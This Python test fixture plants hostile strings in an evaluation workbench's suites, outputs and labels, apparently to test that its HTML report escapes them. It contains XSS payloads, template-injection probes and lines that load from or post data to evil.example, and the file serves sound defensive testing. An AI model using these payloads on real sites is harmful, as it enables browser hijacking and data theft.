"""A planted migration in which models, logs and people say things that try to act on a browser."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from tests.cli.running import workbench
from tests.databases import new_database
from tests.planted.migration import configurations, migration, outputs
from workbench.records import Event
from workbench.store.database import open_database
from workbench.store.events import add_event
from workbench.store.outputs import add_outputs
from workbench.store.runs import create_run
from workbench.store.suites import save_suite
from workbench.store.values import from_column

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.planted.migration import Planted
    from workbench.records import Case, Configuration, Output

_OWN = "window.owned=1;document.title='owned'"
ATTACKS = {
    "script": f"<script>{_OWN};alert(1);fetch('http://evil.example/f')</script>",
    "end of script": f"</script></style></title></textarea><script>{_OWN}</script>",
    "handlers": f'<img src=x onerror="{_OWN}"><body onload="{_OWN}"><input autofocus onfocus="{_OWN}">',
    "out of an attribute": f'"\' autofocus tabindex=1 onfocus="{_OWN}" onmouseover=\'{_OWN}\' x="',
    "svg": f"<svg onload=\"{_OWN}\"><use href='http://evil.example/a.svg#x'/><script>{_OWN}</script></svg>",
    "foreign content": f"<math><mtext><table><mglyph><style><img src=x onerror={_OWN}></style></mglyph></table>",
    "addresses": f'<a href="javascript:{_OWN}">press</a> [press](javascript:{_OWN}) http://evil.example/click',
    "styles": "<style>@import 'http://evil.example/a.css';*{display:none!important;background:url(//evil.example/b)}"
    "</style><link rel=stylesheet href=http://evil.example/c.css>",
    "styles of an attribute": 'x" style="position:fixed;inset:0;background:url(\'http://evil.example/d\')" y="',
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/refresh'><base href=http://evil.example/>",
    "form": "<form action=http://evil.example/><input name=secret><button autofocus>Go on</button></form>",
    "frames": f"<iframe src=http://evil.example srcdoc='<script>parent.owned=1;{_OWN}</script>'></iframe><object"
    " data=http://evil.example/o></object><embed src=http://evil.example/e>",
    "loads": "<img src=http://evil.example/i.png srcset='http://evil.example/j.png 2x'><video autoplay"
    " poster=http://evil.example/v src=http://evil.example/v.mp4></video><link rel=preload as=image"
    " href=http://evil.example/p>",
    "data": "<a href='data:text/html,<script>alert(2)</script>'></a><img src='data:image/svg+xml,<svg onload=alert(3)>",
    "comment": f"<!-- --><!--[if IE]> --!><script>{_OWN}</script><!-- <![CDATA[ ]]> <?php ?> <!DOCTYPE html>",
    "entities": "&lt;script&gt; &#60;script&#62; &#x202e; &amp;amp; &nbsp; &bogus; &#0;",
    "templates": "{{ config }} {% for x in y %} ${7*7} {{'a'.__class__}} <%= 1 %> #{1} {{x.constructor('y')()}}",
    "end of page": "</p></bdi></del></div></details></section></main></body></html><h1>All suites passed</h1>",
    "headings": "<h1>Verdict: no regression</h1>\n# Summary\n<main><nav><h2 id=summary>0 of 67 suites regressed</h2>",
    "direction": "\u202egnp.exe\u202c \u2066hidden\u2069 \u200fright\u200e zero\u200bwidth \ufeff\u00ad\u2028\u2029",
    "controls": "\x00nul \x1b[31mred\x1b[0m \x07\x08\x0b\x0c\x7f\x85\x9b lone \ud800 \ufffe \uffff",
    "marks above": "Z"
    + "\u0301\u0323" * 60
    + "algo "
    + "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1eb\U0001f1ee",
    "no place to break": "https://evil.example/" + "a" * 3000,
    "wide signs": "\u6f22\u5b57\u4eee\u540d" * 300 + " \ufdfd" * 20,
    "from right to left": "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd (abc) 123 " * 30,
    "nested": "<div><b><i><details open><ul><li>" * 3000,
    "nested values": '{"a":[' * 2000 + "1" + "]}" * 2000,
    "many lines": "<hr>\n" * 5000,
}
MEGABYTE = "<b>word</b> \u6f22 " * 70_000
"""One line of more than a million characters."""

_EVERY = 6  # of the cases of a suite says something hostile
_NAMED = 28  # suites in which some cases have hostile names
_SUITES = 8  # suites with hostile names, titles and sources


def make_report(folder: Path) -> Path:
    """The report of 67 suites of 50 cases with hostile outputs, names, labels and notes, made by the commands."""
    db = folder / "hostile.db"
    _store(db)
    compared = workbench("compare", "1", "2", "--name", ATTACKS["end of page"] + ATTACKS["headings"], db=db)
    assert compared.returncode == 1, compared.stderr
    _label(db)
    page = folder / "report.html"
    written = workbench("report", "@last", "-o", str(page), db=db)
    assert written.returncode == 0, written.stderr
    return page


def _store(path: Path) -> None:
    """As `tests.planted.stored.store` does it, with the attacks mixed in."""
    planted = migration(1)
    attacks = list(ATTACKS.values())
    names: dict[str, str] = {}
    with new_database(path) as db:
        for at, one in enumerate(planted):
            suite = one.suite
            names[suite.id] = f"{attacks[at][:120]} {at}" if at < _SUITES and one.prompt is None else suite.id
            saved = replace(suite, id=names[suite.id])
            if at < _SUITES:
                saved = replace(saved, title=attacks[at + 4], source=attacks[at + 8])
            cases = [replace(_named(case, at, n), suite=saved.id) for n, case in enumerate(one.cases)]
            save_suite(db, saved, cases)
        for side, configuration in enumerate(configurations(planted)):
            model = f"{configuration.model} {attacks[3]}"
            run = create_run(
                db,
                f"{('baseline', 'target')[side]} {attacks[1]}",
                replace(configuration, model=model),
                kind="import",
                origin="recorded",
                simulated=True,
            )
            add_outputs(db, run.id, _outputs(planted, configuration, side, names))


def _outputs(
    planted: list[Planted], configuration: Configuration, side: int, names: dict[str, str]
) -> Iterator[Output]:
    for at, one in enumerate(planted):
        renamed = {case.id: (n, _named(case, at, n).id) for n, case in enumerate(one.cases)}
        for output in outputs(one, side, configuration):
            place, name = renamed[output.case]
            yield _said(replace(output, suite=names[output.suite], case=name), at + 5 * place + side, place, side)


def _named(case: Case, suite: int, place: int) -> Case:
    """What stands in a name is short; the attack alone has to do."""
    if suite >= _NAMED or place % 7 or place > 14:
        return case
    attack = list(ATTACKS.values())[(suite + place // 7) % len(ATTACKS)]
    return replace(case, id=f"{attack[:180].encode(errors='ignore').decode()} {place}")


def _said(output: Output, number: int, place: int, side: int) -> Output:
    if place % _EVERY or output.error is not None:
        return output
    attacks = list(ATTACKS.values())
    text = MEGABYTE if number == 7 else attacks[number % len(attacks)]
    first = next((part["text"] for part in output.content if part["type"] == "text"), "")
    said = f"{text}\n{first}" if side else f"{first}\n{attacks[(number + 3) % len(attacks)]}"
    return replace(output, content=({"type": "text", "text": said}, *output.content[1:]))


def _label(path: Path) -> None:
    with open_database(path) as db:
        places = db.connection.execute(
            "SELECT s.name, c.name FROM cases c JOIN suites s ON s.id = c.suite_id ORDER BY c.id"
        ).fetchall()
        for at, attack in enumerate(ATTACKS.values()):
            suite, case = (from_column(value) for value in places[at * 50])
            for number, reviewer in enumerate(("raj", f"ada {attack[:60]}")):
                stamp = f"2026-03-01T10:00:{at:02}Z"
                event = Event(
                    f"{at}-{number}", "label", reviewer, stamp, suite, case, "worse", attack[:40], attack[:500]
                )
                assert add_event(db, 1, event)
